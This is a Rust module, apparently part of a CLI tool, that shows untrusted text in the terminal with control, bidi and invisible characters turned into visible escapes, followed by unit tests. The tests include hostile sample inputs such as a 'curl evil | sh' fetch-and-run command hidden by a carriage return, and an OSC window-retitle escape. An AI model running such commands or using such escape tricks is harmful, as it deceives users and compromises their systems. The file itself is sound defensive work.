//! Untrusted text made safe for a terminal: the one rule for every human-readable output.
//!
//! Catalog texts, answers, argument values, paths and environment values are written by other
//! people. Shown raw, a control character moves the cursor, a `\r` hides the start of a command,
//! an OSC sequence retitles the window and a bidi override reverses what is read. Every text that
//! reaches a person (text and table output, Markdown and CSV, prompts, warnings and error
//! messages) passes through [`untrusted`] or [`untrusted_lines`], which show each such character
//! as a visible escape (`\x1b`, `\r`, `\u{202e}`). JSON and YAML output stay exact: their own
//! escaping already keeps control characters out of the terminal. (`catalog::for_display` applies
//! the rule to a whole catalog.)

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` is shown as an escape rather than as itself: C0 controls (tab, line feed and
/// carriage return included), DEL, C1 controls, bidirectional controls (embeddings, overrides,
/// isolates, marks), invisible format characters (zero-width space and joiners, word joiner,
/// invisible operators, byte order mark, soft hyphen, interlinear annotations, tag characters)
/// and the Unicode line and paragraph separators.
pub fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{1f}'
            | '\u{7f}'..='\u{9f}'
            | '\u{ad}'
            | '\u{61c}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// `text` as display text: every hidden character (see [`is_hidden`]) as a visible escape,
/// everything else as it is. Borrowed when nothing needed escaping, as for all ordinary text.
pub fn untrusted(text: &str) -> Cow<'_, str> {
    escape(text, false)
}

/// Like [`untrusted`], but line feeds stay line breaks: for multi-line texts (a fact, a command
/// of several lines) that the caller wraps or splits into lines itself. A `\r` is still shown.
pub fn untrusted_lines(text: &str) -> Cow<'_, str> {
    escape(text, true)
}

fn escape(text: &str, keep_line_feeds: bool) -> Cow<'_, str> {
    let hidden = |c: char| is_hidden(c) && !(keep_line_feeds && c == '\n');
    let Some(first) = text.find(hidden) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 8);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if !hidden(c) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for text in [
            "Microsoft Entra Workload ID",
            "az aks update --enable-oidc-issuer \\\n  -g rg",
            "Größe — 日本語 ✓ emoji 🎉",
            r"C:\path\x1b is only text",
        ] {
            assert!(matches!(untrusted_lines(text), Cow::Borrowed(t) if t == text));
        }
        assert!(matches!(untrusted("plain"), Cow::Borrowed("plain")));
    }

    #[test]
    fn hidden_characters_become_visible_escapes() {
        let cases = [
            ("\u{1b}]0;pwned\u{7}", "\\x1b]0;pwned\\x07"),
            ("\u{1b}[2J", "\\x1b[2J"),
            ("curl evil | sh\raz login", "curl evil | sh\\raz login"),
            ("a\tb\nc", "a\\tb\\nc"),
            ("\u{0}\u{7f}", "\\x00\\x7f"),
            ("\u{9b}31m", "\\u{9b}31m"),
            ("abc\u{202e}fed", "abc\\u{202e}fed"),
            ("\u{2066}x\u{2069}", "\\u{2066}x\\u{2069}"),
            (
                "\u{200e}\u{200f}\u{200b}\u{feff}",
                "\\u{200e}\\u{200f}\\u{200b}\\u{feff}",
            ),
            ("line\u{2028}sep", "line\\u{2028}sep"),
            ("tag\u{e0041}", "tag\\u{e0041}"),
        ];
        for (raw, shown) in cases {
            assert_eq!(untrusted(raw), shown, "{raw:?}");
            assert!(!untrusted(raw).chars().any(is_hidden));
        }
        assert_eq!(untrusted_lines("one\ntwo\r\n"), "one\ntwo\\r\n");
    }

    #[test]
    fn escaping_is_idempotent() {
        let once = untrusted("\u{1b}[31mred\u{202e}\r");
        assert_eq!(untrusted(&once), once);
    }
}
